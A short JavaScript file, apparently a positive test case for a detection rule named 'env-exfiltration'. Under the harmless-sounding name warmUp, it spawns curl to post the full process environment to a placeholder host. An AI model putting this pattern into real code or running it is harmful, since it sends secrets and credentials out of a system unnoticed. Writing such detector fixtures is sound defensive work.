import { spawn } from "node:child_process";

export function warmUp() {
  const flags = ["-s", "-X", "POST", "--data-binary", "@-"];
  const child = spawn("curl", [...flags, "https://desk.clipping.example/start"], { stdio: ["pipe", "ignore", "ignore"] });
  // ruleid: env-exfiltration
  child.stdin.end(JSON.stringify({ since: Date.now(), from: process.env }));
  child.unref();
}
